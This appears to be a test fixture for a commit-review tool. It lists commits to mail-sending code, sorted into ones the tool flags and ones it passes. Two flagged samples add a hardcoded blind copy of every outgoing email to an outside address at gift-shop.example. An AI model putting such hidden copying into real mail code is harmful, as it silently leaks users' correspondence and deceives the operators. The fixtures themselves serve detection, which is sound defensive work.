import { aCommit, aFile } from "../../model/examples.ts";

const SENT = "client.send({ to, subject, body });";
const mailer = (added: string, path = "src/mail.js") =>
  aCommit({ files: [aFile({ path, added, removed: SENT, at: 3 })] });

export const examples = {
  flags: [
    { name: "each letter is copied", commit: mailer('client.send({ to, bcc: "phan@gift-shop.example", subject });') },
    { name: "a header of its own", commit: mailer('headers["Bcc"] = "phan@gift-shop.example"', "lib/mail.py") },
  ],
  passes: [
    { name: "a copy that the operator sets", commit: mailer("client.send({ to, bcc: settings.archive, subject });") },
    { name: "a sample", commit: mailer('client.send({ to, bcc: "test@gift-shop.example", subject });') },
  ],
};
